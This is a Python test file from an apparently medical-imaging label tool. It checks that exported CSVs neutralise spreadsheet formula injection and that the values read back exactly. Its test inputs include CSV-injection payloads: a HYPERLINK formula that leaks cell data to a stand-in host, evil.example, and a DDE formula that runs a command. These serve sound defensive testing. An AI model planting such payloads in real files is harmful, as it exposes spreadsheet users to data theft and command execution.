"""Every CSV the labels code writes is safe to open in a spreadsheet, and reads back exactly (issue 13):
text cells starting with = + - @, tab or CR are neutralised (inference.csvsafe) and restored on read."""

from __future__ import annotations

import csv
from dataclasses import dataclass
from pathlib import Path

from inference.csvsafe import is_formula_safe
from inference.formats import TASKS, LabelRow, TaskLabel, read_label_manifest, write_label_manifest
from inference.labels.exchange import export_labels, import_labels
from inference.labels.store import LabelEdit, LabelStore

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-x",
    "@SUM(1+1)",
    "\tx",
    "\rx",
    "'already quoted",
    "=cmd|' /C calc'!A0",
]

MALIGNANT = TaskLabel("malignant", 0.25, "person")


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


def _assert_safe(path: Path) -> None:
    unsafe = [cell for cell in _cells(path) if not is_formula_safe(cell)]
    assert not unsafe, f"{path.name}: formula cells {unsafe}"


def test_label_manifest_round_trip(tmp_path: Path) -> None:
    rows = [
        LabelRow(
            key=text, image=f"{text}.dcm", labels={t: TaskLabel(None, 0.0) for t in TASKS} | {"malignancy": MALIGNANT},
            laterality="L", patient=text, study=HOSTILE[(i + 1) % len(HOSTILE)], source=text, split="train",
        )
        for i, text in enumerate(HOSTILE)
    ]
    path = write_label_manifest(tmp_path / "manifest.csv", rows)
    _assert_safe(path)
    assert any(cell.startswith("'=HYPERLINK") for cell in _cells(path))
    assert read_label_manifest(path) == rows  # every value exactly as written

    from training.data import load_manifest  # noqa: PLC0415 - training reads the same manifest

    got, _ = load_manifest(path)
    assert [(r.key, r.patient, r.image) for r in got] == [(r.key, r.patient, r.image) for r in rows]


@dataclass(frozen=True)
class Image:
    key: str
    path: Path
    kind: str = "png"
    patient_id: str = ""
    study_uid: str = ""
    laterality: str = "L"


def test_label_export_files_are_formula_safe_and_import_restores(tmp_path: Path) -> None:
    store = LabelStore(tmp_path / "a.sqlite")
    images = []
    for i, text in enumerate(HOSTILE):
        path = tmp_path / "src" / f"{i}.png"
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(b"")
        images.append(Image(key=text, path=path, patient_id=text, study_uid=text))
        store.set_labels([LabelEdit(text, "density", "B", 0.75)], annotator=HOSTILE[-1 - i])
    out = tmp_path / "export"
    result = export_labels(store, images, out, identified=True)
    assert result.rows == len(HOSTILE) and not result.problems
    for name in ("manifest.csv", "annotations.csv", "original_paths.csv"):
        _assert_safe(out / name)
    assert {r.key for r in read_label_manifest(out / "manifest.csv")} == set(HOSTILE)
    other = LabelStore(tmp_path / "b.sqlite")
    assert import_labels(other, out).added == len(HOSTILE)
    got = {(r.key, r.annotator, r.value, r.confidence) for r in other.labels()}
    assert got == {(text, HOSTILE[-1 - i], "B", 0.75) for i, text in enumerate(HOSTILE)}
    store.close()
    other.close()
